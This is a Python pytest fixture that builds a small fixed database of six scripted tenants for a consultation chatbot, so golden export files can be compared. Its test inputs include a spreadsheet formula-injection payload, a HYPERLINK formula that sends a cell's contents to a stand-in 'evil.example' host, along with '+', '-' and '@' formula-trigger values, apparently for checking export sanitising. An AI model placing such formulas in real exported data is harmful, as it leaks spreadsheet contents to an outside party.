"""A small fixed database built the way the bot builds it: engine steps saved with Database.apply_step.

Tenants: a finished one with awkward text, a partial one, one who changed answers after sending (under a newer
wording), one who erased everything, one who said no thanks and one still reading the privacy note.
References are made predictable so golden files can be compared byte for byte.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.tenant.stepper import describe_incoming, describe_outgoing
from conversations.alerts import flags_for
from conversations.events import Event, Press, Start, Text
from conversations.file.loader import load_consultation
from conversations.flow.engine import step
from conversations.model import Consultation
from conversations.screens import buttons
from storage import Database, StepRecord, TranscriptLine, changed_answers

NOW = datetime(2020, 12, 1, 10, 0, tzinfo=UTC)  # the export is made the morning after the close
DAY1 = datetime(2020, 11, 4, 10, 0, tzinfo=UTC)
Q1, Q2, Q3, Q4, Q5 = "q1_general", "q2_local_suppliers", "q3_cost_quality", "q4_environment", "q5_other"
NEWER_VERSION = "2020-11-12"
ERASED_WORDS = "ERASED-TENANT-SECRET-8812"
AWKWARD = {
    "formula": '=HYPERLINK("http://evil.example/?q="&A1, "Click me")',
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1:A9)",
    "mixed": 'Local firms, please: "quality" matters 🏘️\nSecond line, with a comma',
    "emoji": "👍🏽 Great idea 🌱 — more trees, fewer vans 🚐",
}


@dataclass
class Tenant:
    """One tenant talking to the engine; each event is one saved step at the next minute."""

    db: Database
    consultation: Consultation
    user_id: int
    at: datetime

    async def send(self, event: Event, consultation: Consultation | None = None) -> None:
        """Load, step, save (with the transcript only after agreement, as the bot does)."""
        shown = consultation or self.consultation
        self.at += timedelta(minutes=1)
        loaded = await self.db.load_state(self.user_id, shown.id)
        result = step(shown, loaded.state, event, self.at)
        agreed = result.state.consent_at is not None
        lines = (TranscriptLine("in", describe_incoming(event), self.at),
                 *(TranscriptLine("out", describe_outgoing(r), self.at) for r in result.replies)) if agreed else ()
        changed = changed_answers(result.state, result.changed)
        saved = await self.db.apply_step(StepRecord(
            user_id=self.user_id, consultation_id=shown.id, consultation_version=shown.version,
            privacy_version=shown.privacy_version, update_id=None, expected_revision=loaded.revision,
            state=result.state, changed=changed, transcript=lines, at=self.at,
            flags=flags_for(shown, changed),  # alert words flagged with the answer, as the bot does
        ))
        assert saved

    async def script(self, *events: Event) -> None:
        """Several events in a row."""
        for event in events:
            await self.send(event)


def predictable_references(monkeypatch: pytest.MonkeyPatch) -> None:
    """R-GOLD01, R-GOLD02, ... in the order tenants first write (the real ones are random)."""
    counter = itertools.count(1)
    monkeypatch.setattr("storage.respondents.new_reference", lambda: f"R-GOLD{next(counter):02d}")


def opt(question: str, option: str) -> Press:
    return Press(buttons.option_button_id(question, option))


def nxt(question: str) -> Press:
    return Press(buttons.next_button_id(question))


def skip(question: str) -> Press:
    return Press(buttons.skip_button_id(question))


async def build(db: Database, consultation: Consultation) -> None:
    """Six tenants over several days of the consultation."""
    agree = Press(buttons.AGREE)
    finished = Tenant(db, consultation, 1001, DAY1)
    await finished.script(
        Start("poster"), agree, Text(AWKWARD["formula"]), nxt(Q1), opt(Q2, "agree"), Text(AWKWARD["mixed"]),
        nxt(Q2), skip(Q3), opt(Q4, "not_sure"), Text(AWKWARD["plus"]), nxt(Q4), Text(AWKWARD["emoji"]), nxt(Q5),
        Press(buttons.SUBMIT),
    )
    partial = Tenant(db, consultation, 1002, DAY1 + timedelta(days=1))
    await partial.script(Start(), agree, Text(AWKWARD["minus"]), nxt(Q1), opt(Q2, "disagree"), Text(AWKWARD["at"]))
    changed = Tenant(db, consultation, 1003, DAY1 + timedelta(days=1, hours=3))
    await changed.script(
        Start("letter"), agree, Text("First thought"), nxt(Q1), opt(Q2, "agree"), skip(Q2), Text("Kitchens"),
        nxt(Q3), opt(Q4, "agree"), nxt(Q4), skip(Q5), Press(buttons.SUBMIT),
    )
    newer = replace(consultation, version=NEWER_VERSION)
    for event in (Press(buttons.change_button_id(Q1)), Text("Second thought, after reading the plan again"),
                  nxt(Q1), Press(buttons.change_button_id(Q4)), opt(Q4, "disagree"), nxt(Q4),
                  Press(buttons.SUBMIT)):
        changed.at = max(changed.at, DAY1 + timedelta(days=8))
        await changed.send(event, newer)
    erased = Tenant(db, consultation, 1004, DAY1 + timedelta(days=2))
    await erased.script(Start("poster"), agree, Text(ERASED_WORDS), nxt(Q1), opt(Q2, "disagree"))
    assert await db.erase_respondent(1004)
    declined = Tenant(db, consultation, 1005, DAY1 + timedelta(days=3))
    await declined.script(Start(), Press(buttons.DECLINE))
    reading = Tenant(db, consultation, 1006, DAY1 + timedelta(days=4))
    await reading.script(Start("letter"))


def bundled() -> Consultation:
    """The Connexus consultation as shipped (4 to 30 November 2020, Europe/London)."""
    return load_consultation()


def database_url(where: Path | str) -> str:
    """A SQLite file's URL, or the PostgreSQL URL given: the fixed databases exist on both backends."""
    return where if isinstance(where, str) else f"sqlite:///{where}"


async def build_database(path: Path | str) -> Database:
    """An open database at `path` (a SQLite file, or a PostgreSQL URL) holding the six tenants."""
    db = await Database.open(database_url(path))
    await build(db, bundled())
    return db
